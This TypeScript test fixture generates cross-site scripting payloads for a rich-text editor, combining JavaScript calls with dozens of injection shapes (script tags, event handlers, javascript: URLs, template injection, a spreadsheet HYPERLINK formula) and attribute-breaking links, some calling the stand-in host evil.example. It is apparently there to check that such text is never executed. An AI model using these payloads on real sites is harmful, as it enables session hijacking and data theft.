import type { RichBlock, RichDoc } from '@mdi/contract/kit/rich-text.ts';

/** Texts that would run, ask elsewhere or break out, were they ever taken for more than text. */

const calls = [
  'alert(1)',
  'window.__ran=1',
  'fetch("https://evil.example/x")',
  'print()',
  'top.__ran=1',
  'location="https://evil.example/"',
  'import("https://evil.example/x.js")',
  'setTimeout("window.__ran=1")',
] as const;

const shapes: readonly ((call: string) => string)[] = [
  (call) => `<script>${call}</script>`,
  (call) => `</script><script>${call}//`,
  (call) => `<img src=x onerror='${call}'>`,
  (call) => `"><img src=x onerror='${call}'>`,
  (call) => `'><svg onload='${call}'>`,
  (call) => `<svg><script>${call}</script></svg>`,
  (call) => `<svg><animate onbegin='${call}' attributeName=x dur=1s>`,
  (call) => `<iframe srcdoc="<script>parent.${call}</script>"></iframe>`,
  (call) => `<iframe src="javascript:${call}"></iframe>`,
  (call) => `<a href="javascript:${call}">go</a>`,
  (call) => `<a href="data:text/html,<script>${call}</script>">go</a>`,
  (call) => `<details open ontoggle='${call}'>`,
  (call) => `<input autofocus onfocus='${call}'>`,
  (call) => `<body onload='${call}'>`,
  (call) => `<video><source onerror='${call}'></video>`,
  (call) => `<math><mtext></mtext><script>${call}</script></math>`,
  (call) => `<style>@import 'https://evil.example/a.css';</style><!-- ${call} -->`,
  (call) => `<link rel=stylesheet href=https://evil.example/b.css><!-- ${call} -->`,
  (call) => `<img src="https://evil.example/p.png?${call}">`,
  (call) => `<base href="https://evil.example/"><!-- ${call} -->`,
  (call) => `<meta http-equiv=refresh content="0;url=https://evil.example/?${call}">`,
  (call) => `<form action=https://evil.example><button>${call}</button></form>`,
  (call) => `<object data="javascript:${call}"></object>`,
  (call) => `<template><script>${call}</script></template>`,
  (call) => `<noscript><p title="</noscript><img src=x onerror='${call}'>">`,
  (call) => `&lt;script&gt;${call}&lt;/script&gt;`,
  (call) => `\\u003cscript\\u003e${call}\\u003c/script\\u003e`,
  (call) => `{{constructor.constructor('${call}')()}}`,
  (call) => `\${${call}}`,
  (call) => `javascript:${call}`,
  (call) => `<x contenteditable onblur='${call}' style=position:fixed;inset:0>`,
  (call) => `<marquee onstart='${call}'>`,
  (call) => `<isindex type=image src=1 onerror='${call}'>`,
  (call) => `]]><script>${call}</script>`,
  (call) => `<scr<script>ipt>${call}</scr</script>ipt>`,
  (call) => `‮<script>${call}</script>‬`,
  (call) => `＜script＞${call}＜/script＞`,
  (call) => `<a href="vbscript:${call}">go</a>`,
  (call) => `<portal src="https://evil.example/#${call}">`,
  (call) => `=HYPERLINK("https://evil.example/?${call}","x")`,
];

/** All of them, each another one. */
export const hostileTexts: readonly string[] = calls.flatMap((call) => shapes.map((shape) => shape(call)));

/** Links that the server takes, and whose rest would break out of an attribute. */
const hrefs = [
  'https://example.com/?q="onmouseover="window.__ran=1',
  "https://example.com/#'><script>window.__ran=1</script>",
  'https://example.com/%22%3E%3Cscript%3Ewindow.__ran=1%3C/script%3E',
  'https://example.com/javascript:window.__ran=1',
  'tel:+862161234567',
] as const;

/** One document for each text: as a line, a heading, an item, a quotation, and the words of a link. */
const kinds: readonly ((text: string, at: number) => RichBlock)[] = [
  (text) => ({ type: 'paragraph', content: [{ type: 'text', text }] }),
  (text) => ({ type: 'heading', attrs: { level: 2 }, content: [{ type: 'text', text }] }),
  (text) => ({
    type: 'bulletList',
    content: [{ type: 'listItem', content: [{ type: 'paragraph', content: [{ type: 'text', text }] }] }],
  }),
  (text) => ({ type: 'blockquote', content: [{ type: 'paragraph', content: [{ type: 'text', text }] }] }),
  (text, at) => ({
    type: 'paragraph',
    content: [
      {
        type: 'text',
        text,
        marks: [{ type: 'link', attrs: { href: hrefs[at % hrefs.length] ?? hrefs[0] } }],
      },
    ],
  }),
];

/** A document of each text: one of its kinds, which with the text is another one than all the others. */
export const blockWithText = (text: string, at: number): RichBlock => {
  const kind = kinds[at % kinds.length] ?? kinds[0];
  if (!kind) throw new Error('no kinds');
  return kind(text, at);
};

/** Documents one after the other, as one. */
export const docWithBlocks = (content: RichBlock[]): RichDoc => ({ type: 'doc', content });

/** So many of a list at once. */
export function inBatches<T>(all: readonly T[], size: number): T[][] {
  const parts: T[][] = [];
  for (let from = 0; from < all.length; from += size) parts.push(all.slice(from, from + size));
  return parts;
}
